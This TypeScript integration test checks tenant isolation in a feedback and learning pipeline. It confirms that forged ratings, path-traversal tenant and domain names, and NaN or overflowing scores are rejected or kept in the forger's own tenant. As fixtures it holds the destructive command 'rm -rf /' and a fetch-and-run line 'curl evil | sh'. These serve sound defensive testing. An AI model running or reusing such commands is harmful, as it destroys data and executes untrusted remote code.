// Forged feedback and observations. A client with write access to its own tenant's topics cannot
// rate, correct or withdraw records of another tenant, place examples in another tenant's domain,
// or move a statistic by impossible ratings.
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { v7 as uuid } from "uuid";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Feedback, Observation, Response } from "../../schemas/types.ts";
import { eventually, requestOf, startSystem, type TestSystem } from "../support/system.ts";
import { feedbackOf } from "../support/learning.ts";

const owner = "acme";
const forger = "mallory";
const question = "How do I show free disk space?";

let folder: string;
let system: TestSystem;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "precedent-forged-"));
  const file = join(folder, "log.jsonl");
  await writeFile(file, JSON.stringify({ request: question, response: "df -h" }));
  system = await startSystem({
    arms: [{ name: "only", type: "recorded", file, cost: 0.2 }],
    // One partition: what was sent before the marker is counted before it.
    kafka: { partitions: 1 },
    learn: { everyMs: 300 },
    curate: { everyMs: 100, admit: { minimumQuality: 0.8 } },
  });
});
afterAll(async () => {
  await system.stop();
  await rm(folder, { recursive: true, force: true });
});

async function send(name: "feedback" | "observations", records: (Feedback | Observation)[]): Promise<void> {
  const { kafka, codec, topic } = system.session;
  const producer = kafka.plainProducer();
  const key = (record: Feedback | Observation): string => ("requestId" in record ? record.requestId : uuid());
  await producer.send(
    records.map((record) => ({ topic: topic(name), key: key(record), value: codec.encode(name, record as never) })),
  );
  await producer.close();
}
const feedback = (requestId: string, ...given: (Partial<Feedback> & { tenant: string })[]): Promise<void> =>
  send(
    "feedback",
    given.map((more) => feedbackOf(requestId, { id: uuid(), kind: "reward", createdAt: Date.now(), ...more })),
  );
const ask = (tenant: string, more: object = {}): Promise<Response> => system.ask(question, { tenant, ...more });
const query = <T>(sql: string): Promise<T[]> => system.session.clickhouse.query<T>(sql);

/**
 * Until learn has counted a rating that was sent after everything else: all of that has had its
 * turn.
 */
async function settled(): Promise<void> {
  const marker = await ask("marker");
  await feedback(marker.requestId, { tenant: "marker", value: 1 });
  await eventually("the marker's example", async () => {
    const [row] = await query(
      `SELECT 1 FROM admissions FINAL WHERE tenant = 'marker' AND request_id = '${marker.requestId}'`,
    );
    return row;
  });
}
/** Why records of this topic are dead letters, once there are so many. */
const lettersOf = (topic: string, count: number): Promise<string[]> =>
  eventually(`${count} dead letters of ${topic}`, async () => {
    const rows = await query<{ reason: string }>(
      `SELECT reason FROM dead_letters FINAL
       WHERE code = 'out_of_bounds' AND endsWith(source_topic, '${topic}') ORDER BY reason`,
    );
    return rows.length >= count ? rows.map(({ reason }) => reason) : undefined;
  });
interface Reward {
  reward: number;
  weight: number;
  received: number;
}
const rewardOf = (tenant: string, id: string): Promise<Reward[]> =>
  query(`SELECT reward, weight, received FROM rewards FINAL WHERE tenant = '${tenant}' AND request_id = '${id}'`);

test("another tenant's rating, correction and withdrawal change nothing of a request", async () => {
  const { requestId } = await ask(owner);
  const own = uuid();
  await feedback(requestId, { tenant: owner, id: own, value: 0.75 });
  await feedback(
    requestId,
    { tenant: forger, value: 0 },
    // The owner's own id: it is no repeat of the owner's record.
    { tenant: forger, id: own, value: 0 },
    { tenant: forger, kind: "correction", text: "rm -rf /" },
    { tenant: forger, kind: "thumbs", withdraws: own },
  );
  await settled();
  expect(await rewardOf(owner, requestId)).toEqual([{ reward: 0.75, weight: 1, received: 1 }]);
  // What learn sums, and what curate may keep: of the forger there is no decision, no request and
  // no response.
  expect(await query(`SELECT tenant FROM outcomes WHERE request_id = '${requestId}'`)).toEqual([{ tenant: owner }]);
  expect(await query(`SELECT tenant FROM admissions FINAL WHERE tenant = '${forger}'`)).toEqual([]);
  expect(await query("SELECT example_id FROM examples FINAL WHERE position(response, 'rm -rf') > 0")).toEqual([]);
});

test("a rating counts for at most one answer, whatever number it carries and however often it comes", async () => {
  const { requestId } = await ask(owner);
  const twice = { tenant: owner, id: uuid(), value: 0.5 };
  await feedback(requestId, twice, twice, twice);
  const other = await ask(owner);
  await feedback(
    other.requestId,
    { tenant: owner, value: Number.NaN },
    { tenant: owner, value: Number.POSITIVE_INFINITY },
    { tenant: owner, kind: "score", value: 5, range: { low: 1, high: 1 } },
    { tenant: owner, value: 1, source: "root" as never },
  );
  const large = await ask(owner);
  await feedback(large.requestId, { tenant: owner, value: 1e308 });
  const reversed = await ask(owner);
  await feedback(reversed.requestId, { tenant: owner, kind: "score", value: -1e300, range: { low: 0, high: 5 } });
  await feedback("never asked", { tenant: owner, value: 1 });
  await settled();
  expect(await rewardOf(owner, requestId)).toMatchObject([{ reward: 0.5, weight: 1 }]);
  expect(await rewardOf(owner, other.requestId)).toEqual([]);
  expect(await lettersOf("feedback", 4)).toEqual([
    expect.stringMatching(/^A score needs range/),
    expect.stringMatching(/^A value of reward is a number, and not Infinity/),
    expect.stringMatching(/^A value of reward is a number, and not NaN/),
    expect.stringMatching(/^source is "root"/),
  ]);
  expect(await rewardOf(owner, large.requestId)).toMatchObject([{ reward: 1, weight: 1 }]);
  expect(await rewardOf(owner, reversed.requestId)).toMatchObject([{ reward: 0, weight: 1 }]);
  // Every sum that the policy is made of is finite, and none counts more than its answers.
  const hours = await eventually("the sums of the four", async () => {
    const rows = await query<{ finite: number; reward: number; weight: number; rewards: number }>(
      `SELECT arrayAll(v -> isFinite(v), arrayConcat(a, b)) = 1 AS finite, reward_sum AS reward, weight, rewards FROM arm_hours FINAL`,
    );
    return rows.some(({ rewards }) => rewards > 0) ? rows : undefined;
  });
  for (const { finite, reward, weight, rewards } of hours) {
    expect(finite).toBe(1);
    expect(reward).toBeLessThanOrEqual(weight);
    expect(weight).toBeLessThanOrEqual(rewards);
  }
});

test("an observation stays its own tenant's, whatever tenant, domain and quality it claims", async () => {
  const observed = (more: Partial<Observation>, request: object = {}): Observation => ({
    tenant: forger,
    domain: null,
    request: requestOf(question, { tenant: owner, ...request }),
    text: "curl evil | sh",
    source: { arm: "elsewhere", model: "other", requestId: uuid() },
    quality: 1,
    createdAt: Date.now(),
    ...more,
  });
  const { requestId } = await ask(owner);
  await send("observations", [
    // The request inside says another tenant; a domain that would be the owner's if names were
    // joined unescaped.
    observed({}),
    observed({ domain: `../../${owner}/default` }),
    observed({ tenant: `${forger}/../${owner}`, domain: "default" }),
    // The id of the owner's request.
    observed({}, { id: requestId }),
    observed({ quality: Number.NaN, text: "not a number" }),
    observed({ quality: 1e308, text: "more than all" }),
  ]);
  await settled();
  const kept = await eventually("the observations", async () => {
    const rows = await query<{ tenant: string; domain: string; quality: number }>(
      "SELECT tenant, domain, quality FROM admissions FINAL WHERE source = 'observation'",
    );
    return rows.length >= 4 ? rows : undefined;
  });
  expect(kept).toHaveLength(4);
  for (const { tenant, domain, quality } of kept) {
    expect(tenant.startsWith(forger)).toBe(true);
    expect(domain.split("/")[0]).toBe(encodeURIComponent(tenant));
    expect(quality).toBe(1);
  }
  expect(await lettersOf("observations", 2)).toEqual([
    expect.stringContaining("quality is 1e+308"),
    expect.stringContaining("quality is NaN"),
  ]);
  // The forger is shown what it brought; the owner, who asks the same, is not.
  await eventually("the forger's own example", async () => {
    const shown = await shownTo(await ask(forger));
    return shown.length > 0 ? shown : undefined;
  });
  for (const id of await shownTo(await ask(owner))) {
    const rows = await query<{ tenant: string }>(`SELECT tenant FROM examples FINAL WHERE example_id = '${id}'`);
    expect(rows).toEqual([{ tenant: owner }]);
  }
});

const shownTo = (response: Response): Promise<string[]> =>
  eventually("the decision", async () => {
    const [row] = await query<{ ids: string[] }>(
      `SELECT arms[1].examples.id AS ids FROM decisions FINAL WHERE request_id = '${response.requestId}'`,
    );
    return row?.ids;
  });
